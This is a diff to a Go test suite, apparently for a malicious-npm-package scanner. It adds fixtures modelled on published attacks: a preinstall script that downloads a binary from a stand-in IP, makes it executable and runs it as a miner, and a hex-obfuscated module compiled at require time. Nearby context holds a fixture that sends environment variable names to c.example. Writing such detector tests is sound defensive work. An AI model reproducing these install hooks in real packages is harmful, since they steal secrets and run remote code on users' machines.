@@ -193,6 +193,18 @@ func TestNPMMalicious(t *testing.T) {
 			"package.json": pkgJSON(`"install":"node i.js"`),
 			"i.js":         "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nrequire('https').request({host: 'c.example', method: 'POST'}).end(String(Object.keys(o)));\n",
 		}, want: []want{{RuleEnvExfil, High, "i.js:2:"}}},
+		// The shapes of published attacks (rewritten, not copied).
+		{name: "ua-parser-js style: geo check, miner fetched from an IP, chmod, run", eco: "npm", files: map[string]string{
+			"package.json":  pkgJSON(`"preinstall":"start /B node preinstall.js & node preinstall.js"`),
+			"preinstall.js": "const { exec } = require('child_process');\nif (process.platform === 'linux') exec('bash preinstall.sh');\n",
+			"preinstall.sh": "IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU')\nif [ -z \"$IP\" ]; then\n  curl http://203.0.113.7/download/jsext -o jsext\n" +
+				"  chmod +x jsext\n  ./jsext -k --tls -o pool.example:443 >/dev/null 2>&1 &\nfi\n",
+		}, want: []want{{RuleRawIPURL, High, "preinstall.sh:3:"}, {RuleExfilEndpoint, Medium, "preinstall.sh:1:"}}},
+		{name: "flatmap-stream style: hex-named module compiled at require", eco: "npm", files: map[string]string{
+			"package.json": `{"name":"x","main":"index.min.js"}`,
+			"index.min.js": "var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),o=t.env.npm_package_description;" +
+				"var m=new module.constructor;m.paths=module.paths;m._compile(d(n[0],o),\"\");\n",
+		}, want: []want{{RuleEvalDecode, High, "index.min.js:1:"}}},
 		// Require-time payloads: no install script at all.
 		{name: "eval of decoded data in main", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(``),
